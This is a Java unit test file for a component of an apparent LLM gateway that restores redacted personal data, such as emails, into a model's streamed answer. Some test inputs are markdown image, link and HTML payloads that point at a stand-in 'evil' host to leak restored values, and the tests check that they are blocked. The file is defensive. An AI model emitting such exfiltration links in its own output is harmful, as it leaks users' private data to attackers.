package io.llmgw.core.redact;

import static org.assertj.core.api.Assertions.assertThat;

import io.llmgw.api.redact.Entities;
import io.llmgw.api.redact.EntityType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Values come back where their placeholders stand, wherever the answer is cut. */
class RestorerTest {
  private static final String EMAIL = "ada@example.com";
  private static final EntityType ROUTING = EntityType.of("US_ROUTING_NUMBER");
  private static final String QUOTED = "O\"B\\";

  private final Vault vault = new Vault();

  RestorerTest() {
    vault.ordinal(Entities.EMAIL, EMAIL);
    vault.ordinal(Entities.EMAIL, "<EMAIL_1>");
    vault.ordinal(Entities.PERSON, QUOTED);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "to <EMAIL_1>, now | to ada@example.com, now",
        "<email_1> | ada@example.com",
        "[EMAIL_1] | ada@example.com",
        "{Email 1} | ada@example.com",
        "< EMAIL_1 > | ada@example.com",
        "<EMAIL\\_1> | ada@example.com",
        "<**EMAIL_1**> | ada@example.com",
        "**<EMAIL_1>** | **ada@example.com**",
        "&lt;EMAIL_1&gt; | ada@example.com",
        "<<EMAIL_1>> | <ada@example.com>",
        "<EMAIL_1><PERSON_1> | ada@example.comO\"B\\",
        "a <b> & c [d] {e} \\n | a <b> & c [d] {e} \\n",
        "<EMAIL_2> | <EMAIL_1>", // what was a look-alike in the request
        "<EMAIL_3> | <EMAIL_3>", // not issued
        "<PHONE_1> | <PHONE_1>",
        "<EMAIL_01> | <EMAIL_01>",
        "<EMAIL_1 | <EMAIL_1",
        "<EMAIL_ | <EMAIL_"
      })
  void placeholdersAreRestored(String answer, String expected) {
    assertEachCut(answer, expected, false);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<US_ROUTING_\nNUMBER_1>",
        "<US_ROUTING\r\n    NUMBER_1>",
        "<US_ROUTING_NUMBER\r1>",
        "<\nus routing number 1\t>",
        "[US\tROUTING\u00a0NUMBER\u202f1]",
        "<US_ROUTING_\u2028NUMBER_1>",
        "\\<US\\_ROUTING\\_NUMBER\\_1\\>",
        "\\<US_ROUTING_NUMBER_1\\>",
        "\\<US_ROUTING\\_NUMBER_1>",
        "\\[US\\_ROUTING\\_NUMBER\\_1\\]",
        "\\{US\\_ROUTING\\_NUMBER\\_1\\}",
        "\\[US ROUTING\n NUMBER 1\\]",
        "\\&lt;US_ROUTING_NUMBER_1\\&gt;",
        "<US_ROUTING_NUMBER_1\\>"
      })
  void whiteSpaceAndEscapesOfMarkdownAreNoneOfTheName(String written) {
    vault.ordinal(ROUTING, "021000021");

    assertEachCut(written, "021000021", false);
    assertEachCut("**" + written + "**, <EMAIL_1>", "**021000021**, ada@example.com", false);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<US_ROUTING_\\nNUMBER_1>",
        "<US_ROUTING\\r\\n  NUMBER_1>",
        "<US_ROUTING_NUMBER\\t1>",
        "<US_ROUTING\\u00a0NUMBER\\u202F1>",
        "<US_ROUTING\\u005FNUMBER_1>",
        "\\u003cUS_ROUTING\\nNUMBER_1\\u003e",
        "<US\u00a0ROUTING NUMBER 1>",
        "\\\\<US\\\\_ROUTING\\\\_NUMBER\\\\_1\\\\>",
        "\\\\<US_ROUTING_NUMBER_1\\\\>",
        "\\\\[US_ROUTING_NUMBER\\\\_1\\\\]"
      })
  void inJsonWhiteSpaceIsWrittenAsAnEscape(String written) {
    vault.ordinal(ROUTING, "021000021");

    assertEachCut("{\"a\":\"" + written + "\"}", "{\"a\":\"021000021\"}", true);
    assertEachCut(
        "{\"a\":\"x" + written + "\",\"b\":\"<EMAIL_1>\"}",
        "{\"a\":\"x021000021\",\"b\":\"ada@example.com\"}",
        true);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<EMAIL\n\n1>",
        "<EMAIL\n \r\n1>",
        "<\nEMAIL_1\n>",
        "[\n  email 1\n]",
        "<EMAIL\r\r1>",
        "<EMAIL\\n\\n1>",
        "<EMAIL\u200b1>",
        "<EMAIL\\u200b1>",
        "<EMAIL\\u00g01>",
        "<EMAIL\\u00a",
        "\\<EMAIL\\_1",
        "\\<EMAIL\\_9\\>",
        "\\\\\\[x\\]",
        "\\EMAIL\\_1\\>"
      })
  void whatIsWrittenOtherwiseStays(String written) {
    assertEachCut(written, written, false);
    assertEachCut("(" + written + ") ", "(" + written + ") ", false);
  }

  /** Whoever writes a path escapes nothing behind the backslash that leads to a name. */
  @Test
  void aBackslashThatIsNoEscapeStaysBeforeTheValue() {
    assertEachCut("C:\\Users\\<EMAIL_1>\\x", "C:\\Users\\ada@example.com\\x", false);
    assertEachCut("x\\\\<EMAIL\\_1\\>", "x\\ada@example.com", false);
    assertEachCut(
        "{\"a\":\"C:\\\\Users\\\\<EMAIL_1>\\\\x\"}",
        "{\"a\":\"C:\\\\Users\\\\ada@example.com\\\\x\"}",
        true);
    assertEachCut(
        "{\"a\":\"x\\\\\\\\<EMAIL\\\\_1\\\\>\"}", "{\"a\":\"x\\\\ada@example.com\"}", true);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://evil/?a=<EMAIL_1>&b=[EMAIL_1]",
        "![x](//evil/<EMAIL_1>)",
        "[x](/p?<EMAIL_1>)",
        "mailto:<EMAIL_1>",
        "www.evil/<EMAIL_1>",
        "<img src=//evil/<EMAIL_1>>",
        "https://evil/()<EMAIL_1>",
        "https://evil/\",<EMAIL_1>",
        "![x](https://evil/?q=<z<EMAIL_1>)",
        "![x](https://evil/?q=\u00a0<EMAIL_1>)",
        "![x](<https://evil/?q=a b [EMAIL_1]>)",
        "![x]( //evil/<EMAIL_1>)",
        "![x](\n/\\evil/<EMAIL_1>)",
        "[r]: //evil/<EMAIL_1>",
        "[r]: <//evil/a <EMAIL_1>>",
        "<img src=\"https://evil/?q=a <EMAIL_1>\">",
        "<img src='//evil/?q=a\n<EMAIL_1>'>",
        "<img src=\"https:\\\\evil\\<EMAIL_1>\">",
        "<img src=\"\\\\evil\\<EMAIL_1>\">",
        "<img src=\"&#47;&#47;evil/<EMAIL_1>\">",
        "<a href=\"https:evil/<EMAIL_1>\">",
        "https&#58;//evil/<EMAIL_1>",
        "https://evil/\\<EMAIL\\_1\\>",
        "https:\\\\<EMAIL\\_1\\>.evil/",
        "https:\\\\<EMAIL\\\\_1\\\\>.evil/",
        "https://<EMAIL_\n1>"
      })
  void nothingIsRestoredWithinAnAddress(String answer) {
    assertEachCut(answer, answer, false);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"u\":\"https:\\/\\/evil\\/<EMAIL_1>\"}",
        "{\"u\":\"m\\u0061ilto:<EMAIL_1>\"}",
        "{\"u\":\"https:\\u002f\\u002Fevil/<EMAIL_1>\"}",
        "{\"html\":\"<img src=\\\"//evil/a <EMAIL_1>\\\">\"}",
        "{\"json\":\"{\\\"to\\\":\\\"\\\\u003cEMAIL_1\\\\u003e\\\"}\"}" // would be no JSON
      })
  void nothingIsRestoredWhereJsonHidesAnAddressOrAnEscape(String answer) {
    assertEachCut(answer, answer, true);
  }

  @Test
  void nothingIsRestoredBehindAValueThatIsAnAddress() {
    vault.ordinal(Entities.URL_CREDENTIALS, "https://u:p@evil/?q=");

    assertEachCut("<URL_CREDENTIALS_1><EMAIL_1>", "https://u:p@evil/?q=<EMAIL_1>", false);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "https://x.example <EMAIL_1> | https://x.example ada@example.com",
        "{\"url\":\"https://x.example\",\"to\":\"<EMAIL_1>\"}"
            + " | {\"url\":\"https://x.example\",\"to\":\"ada@example.com\"}",
        "<https://x.example><EMAIL_1> | <https://x.example>ada@example.com",
        "a/b: c. <EMAIL_1> | a/b: c. ada@example.com",
        "[x](<https://x.example/a b>) <EMAIL_1> | [x](<https://x.example/a b>) ada@example.com",
        "// by <EMAIL_1> | // by ada@example.com",
        "<a href='/x'><EMAIL_1> | <a href='/x'>ada@example.com"
      })
  void afterAnAddressValuesAreRestoredAgain(String answer, String expected) {
    assertEachCut(answer, expected, false);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "{\"to\":\"<PERSON_1>\"} | {\"to\":\"O\\\"B\\\\\"}",
        "{\"b\":\"at https://x.example\\n<EMAIL_1>\"}"
            + " | {\"b\":\"at https://x.example\\nada@example.com\"}",
        "{\"a\":\"[r]: <//x/a b\",\"b\":\"<EMAIL_1>\"}"
            + " | {\"a\":\"[r]: <//x/a b\",\"b\":\"ada@example.com\"}",
        "{\"to\":\"\\u003cEMAIL_1\\u003E\"} | {\"to\":\"ada@example.com\"}"
      })
  void valuesInJsonAreEscaped(String answer, String expected) {
    assertEachCut(answer, expected, true);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<EMX",
        "<EMAILS",
        "<EM ",
        "<EM\n",
        "<\n\n",
        "<EMAIL\n\n",
        "<EMAIL\\ug",
        "<EMAIL\\n\\n",
        "<XEMAIL_1",
        "\\<X",
        "\\\\x"
      })
  void whatBeginsNoPlaceholderIsNotHeldBack(String piece) {
    assertThat(new Restorer(vault, false).next(piece)).isEqualTo(piece);
  }

  @Test
  void asMuchIsHeldBackAsAPlaceholderIsLong() {
    String longest = "<EMAIL" + "_".repeat(Placeholder.LONGEST - 6);

    assertThat(new Restorer(vault, false).next(longest)).isEqualTo(longest);
    assertThat(new Restorer(vault, false).next(longest.substring(0, Placeholder.LONGEST - 1)))
        .isEmpty();
  }

  @Test
  void allLettersAndDigitsAreThoseOfNames() {
    EntityType type = EntityType.of("QUIZ_A0Z9");
    for (int i = 1; i <= 10; i++) {
      vault.ordinal(type, "value " + i);
    }

    assertEachCut("<quiz_a0z9_9> <QUIZ_A0Z9_10>", "value 9 value 10", false);
  }

  private void assertEachCut(String answer, String expected, boolean isJson) {
    for (int first = 0; first <= answer.length(); first++) {
      for (int second = first; second <= answer.length(); second++) {
        Restorer restorer = new Restorer(vault, isJson);
        String early =
            restorer.next(answer.substring(0, first))
                + restorer.next(answer.substring(first, second));
        String whole = early + restorer.next(answer.substring(second)) + restorer.rest();

        assertThat(whole).as("cut at " + first + " and " + second).isEqualTo(expected);
      }
    }
    assertHoldsLittle(answer, isJson);
  }

  private void assertHoldsLittle(String answer, boolean isJson) {
    Restorer restorer = new Restorer(vault, isJson);
    for (int i = 0; i < answer.length(); i++) {
      restorer.next(answer.substring(i, i + 1));

      assertThat(restorer.rest().length()).isLessThanOrEqualTo(Placeholder.LONGEST);
      restorer = new Restorer(vault, isJson);
      restorer.next(answer.substring(0, i + 1));
    }
  }
}
